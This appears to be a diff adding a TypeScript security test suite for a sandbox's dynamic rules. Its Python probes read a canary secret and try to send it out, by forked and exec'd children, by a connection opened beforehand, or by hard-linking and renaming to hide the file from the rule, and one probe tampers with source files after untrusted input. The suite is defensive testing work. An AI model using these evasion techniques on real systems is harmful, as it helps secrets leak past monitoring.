@@ -1,0 +1,212 @@
+/**
+ * Supervised mode: the policy's dynamic rules (`rules:`), enforced at run time by Ward's
+ * supervisor (seccomp user notification) and the egress broker. Each probe adds a rule and a
+ * host-side server reached through `network.allow_local` (the one destination probes can
+ * really reach), shows the attack's way out working *before* the rule's trigger (so the
+ * refusal is the rule's doing, not a dead network), then tries it after. A probe holds only if
+ * the attack failed with the expected errno, the server received nothing after the trigger,
+ * and Ward recorded the refusal.
+ */
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { broken, E, error, held, kv, noResult, py, serverPort, startHostServer, st, type HostServer } from '../lib.js';
+import type { PolicyOverlay, Probe, ProbeContext, ProbeRun, Verdict } from '../types.js';
+
+const group = 'supervised' as const;
+const ruleProbe = { group, promise: 'dynamic-rules', mechanism: 'supervisor', expect: 'refused' } as const;
+
+/** A host server that counts bytes; a secret (the canary) under the workspace's secrets/ and private/. */
+const setupWith = (greeting: 'silent' | 'keep-open') => async (ctx: ProbeContext) => {
+  ctx.state.server = await startHostServer({ port: 0, host: '127.0.0.1' }, greeting);
+  for (const d of ['secrets', 'private', 'src']) mkdirSync(path.join(ctx.ws, d), { recursive: true });
+  writeFileSync(path.join(ctx.ws, 'secrets', 'token'), `token ${ctx.canary}\n`);
+  writeFileSync(path.join(ctx.ws, 'private', 'notes'), `notes ${ctx.canary}\n`);
+  writeFileSync(path.join(ctx.ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
+  writeFileSync(path.join(ctx.ws, 'src', 'util.c'), 'int util;\n');
+};
+const setup = setupWith('silent');
+const teardown = (ctx: ProbeContext) => st<HostServer>(ctx, 'server').close();
+const port = (ctx: ProbeContext) => serverPort(st<HostServer>(ctx, 'server'));
+const overlay = (rules: NonNullable<PolicyOverlay['rules']>) => (ctx: ProbeContext): PolicyOverlay => ({ network: { allow_local: [port(ctx)] }, rules });
+
+/** Python: `out(key, data)` connects to the server, sends `data`, prints key=errno (0: sent). */
+const OUT = (ctx: ProbeContext) => `PORT = ${port(ctx)}
+def out(key, data=b'x'):
+    try:
+        s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
+        s.sendall(data)
+        time.sleep(0.1)
+        s.close()
+        say(key, 0)
+    except OSError as e:
+        say(key, e.errno if e.errno is not None else -1)
+`;
+
+/** The server got exactly the bytes sent before the trigger; the rest never left. */
+function nothingAfter(ctx: ProbeContext, before: number): Verdict | null {
+  const got = st<HostServer>(ctx, 'server').bytes;
+  return got > before ? broken(`the server received ${got - before} bytes sent after the rule's trigger`) : null;
+}
+
+/** key=0 for the before-step, else the probe cannot tell a rule from a dead path. */
+function workedBefore(run: ProbeRun, key: string): Verdict | null {
+  const v = kv(run.stdout).get(key);
+  if (v === undefined) return noResult(run, key);
+  return v === '0' ? null : error(`${key} failed (errno ${v}) before the rule's trigger: the way out was not open, so the rule's refusal cannot be shown`);
+}
+
+function refusedWith(run: ProbeRun, keys: string[], errno: number, what: string): Verdict | null {
+  const v = kv(run.stdout);
+  for (const k of keys) {
+    const got = v.get(k);
+    if (got === undefined) return noResult(run, k);
+    if (got === '0') return broken(`${k} succeeded after the rule's trigger: ${what}`);
+    if (Number(got) !== errno) return error(`${k} failed with errno ${got}, not ${errno}: something other than the rule refused it`);
+  }
+  return null;
+}
+
+const recorded = (run: ProbeRun, re: RegExp) => run.denials.some((d) => d.layer === 'supervisor' && re.test(d.detail));
+
+export const probes: Probe[] = [
+  {
+    id: 'rule.connect-after-secret',
+    ...ruleProbe,
+    title: 'after reading a secret, connect out (the process itself, a forked child, a freshly exec\'d program)',
+    asi: ['ASI02', 'ASI01'],
+    nist: ['AC-4', 'SC-7', 'AC-3(8)'],
+    setup,
+    teardown,
+    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
+    program: (ctx) =>
+      py(`${OUT(ctx)}
+out('before')
+secret = open('secrets/token', 'rb').read()
+out('after', secret)
+pid = os.fork()
+if pid == 0:
+    out('child', secret)
+    os._exit(0)
+os.waitpid(pid, 0)
+os.system("python3 -c 'import socket\\ntry:\\n  socket.create_connection((\\"127.0.0.1\\", %d), timeout=5); print(\\"execd=0\\")\\nexcept OSError as e: print(\\"execd=%%d\\" %% e.errno)'" % PORT)`),
+    check: (run, ctx) =>
+      workedBefore(run, 'before') ??
+      refusedWith(run, ['after', 'child', 'execd'], E.EACCES, 'the secret could leave') ??
+      nothingAfter(ctx, 1) ??
+      (recorded(run, /network revoked by rules\[0\]/) ? held('connect worked before the read; after it the process, a forked child and an exec\'d program got EACCES from the supervisor, and each refusal was recorded') : error('refused, but no supervisor refusal was recorded')),
+  },
+  {
+    id: 'rule.exfil-on-open-connection',
+    ...ruleProbe,
+    mechanism: 'egress-broker',
+    title: 'open a connection first, then read the secret and send it down the connection already open',
+    asi: ['ASI02'],
+    nist: ['AC-4', 'SC-7'],
+    // The server greets: the greeting's arrival shows the connection was carried before the read.
+    setup: setupWith('keep-open'),
+    teardown,
+    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
+    program: (ctx) =>
+      py(`${OUT(ctx)}
+s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
+s.sendall(b'x')
+say('before', 0 if s.recv(100).startswith(b'HOST-SERVICE') else -1)
+secret = open('secrets/token', 'rb').read()
+time.sleep(0.5)
+try:
+    for i in range(20):
+        s.sendall(secret)
+        time.sleep(0.05)
+    say('sent', 0)
+except OSError as e:
+    say('sent', e.errno)`),
+    check: (run, ctx) => {
+      const sent = kv(run.stdout).get('sent');
+      if (sent === undefined) return noResult(run, 'sent');
+      const open = workedBefore(run, 'before');
+      if (open) return open;
+      const after = nothingAfter(ctx, 1);
+      if (after) return after;
+      const cut = run.net.some((e) => /^cut: revoked by rules\[0\]/.test(e.note ?? ''));
+      if (!cut) return error('the server got nothing more, but no record says the connection was cut');
+      return held(`the connection opened before the read was cut when the rule fired (the sender saw ${sent === '0' ? 'its writes vanish' : `errno ${sent}`}); the record says why`);
+    },
+  },
+  {
+    id: 'rule.renamed-secret',
+    ...ruleProbe,
+    title: 'hide the secret from the rule: hard-link it and rename its folder without reading it, read it under the new name, then connect out',
+    asi: ['ASI02'],
+    nist: ['AC-4', 'AC-3(8)'],
+    setup,
+    teardown,
+    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
+    program: (ctx) =>
+      py(`${OUT(ctx)}
+os.link('secrets/token', 'innocent.txt')
+os.rename('secrets', 'notes')
+out('before')
+a = open('innocent.txt', 'rb').read()
+out('after-link', a)
+b = open('notes/token', 'rb').read()
+out('after-rename', b)`),
+    check: (run, ctx) =>
+      workedBefore(run, 'before') ??
+      refusedWith(run, ['after-link', 'after-rename'], E.EACCES, 'a new name hid the secret from the rule') ??
+      nothingAfter(ctx, 1) ??
+      held('the secret read under a hard link\'s name fired the rule all the same (the supervisor knows the file by identity); later connects got EACCES'),
+  },
+  {
+    id: 'rule.write-after-untrusted',
+    ...ruleProbe,
+    title: 'after fetching untrusted content, change the sources: overwrite, create, delete, rename, truncate and plant a symlink under src/',
+    asi: ['ASI01', 'ASI05'],
+    nist: ['AC-3(8)', 'SI-7'],
+    setup,
+    teardown,
+    policy: (ctx) => overlay([{ after: `connect 127.0.0.1:${port(ctx)}`, revoke: 'write ${WORKSPACE}/src/**' }])(ctx),
+    program: (ctx) =>
+      py(`${OUT(ctx)}
+attempt('before', lambda: open('src/util.c', 'a').write('// ok\\n'))
+out('fetch')
+attempt('overwrite', lambda: open('src/main.c', 'w').write('pwned'))
+attempt('create', lambda: open('src/evil.c', 'x').write('pwned'))
+attempt('delete', lambda: os.unlink('src/util.c'))
+attempt('rename', lambda: os.rename('src/main.c', 'src/old.c'))
+attempt('truncate', lambda: os.truncate('src/main.c', 0))
+attempt('plant-link', lambda: os.symlink('/tmp/payload', 'src/payload.c'))`),
+    check: (run, ctx) => {
+      const v = workedBefore(run, 'before') ?? workedBefore(run, 'fetch') ?? refusedWith(run, ['overwrite', 'create', 'delete', 'rename', 'truncate', 'plant-link'], E.EACCES, 'the sources were changed after untrusted content came in');
+      if (v) return v;
+      const main = readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8');
+      if (main !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host');
+      if (!recorded(run, /write .*revoked by rules\[0\] \(after connect/)) return error('refused, but no supervisor refusal was recorded');
+      return held('a write before the connection worked; after it every change under src/ got EACCES and the files on the host are unchanged');
+    },
+  },
+  {
+    id: 'rule.trifecta',
+    ...ruleProbe,
+    mechanism: 'egress-broker',
+    title: 'the lethal trifecta: read private data, then open the way out to the untrusted host',
+    asi: ['ASI02', 'ASI01'],
+    nist: ['AC-4', 'SC-7'],
+    setup,
+    teardown,
+    policy: (ctx) => overlay([{ after: ['read ${WORKSPACE}/private/**', `connect 127.0.0.1:${port(ctx)}`], revoke: 'network' }])(ctx),
+    program: (ctx) =>
+      py(`${OUT(ctx)}
+notes = open('private/notes', 'rb').read()
+out('completing', notes)
+out('again', notes)`),
+    check: (run, ctx) => {
+      const v = kv(run.stdout);
+      if (v.get('again') === undefined) return noResult(run, 'again');
+      const after = nothingAfter(ctx, 0);
+      if (after) return after;
+      if (v.get('again') !== String(E.EACCES)) return broken(`the connect after both events got ${v.get('again')}, not EACCES`);
+      if (!run.net.some((e) => e.verdict === 'deny' && /this connection completed the rule/.test(e.reason ?? ''))) return error('nothing reached the server, but the broker recorded no refusal of the completing connection');
+      return held('the connection that completed the rule was refused by the broker before a byte went out; the next connect got EACCES');
+    },
+  },
+];
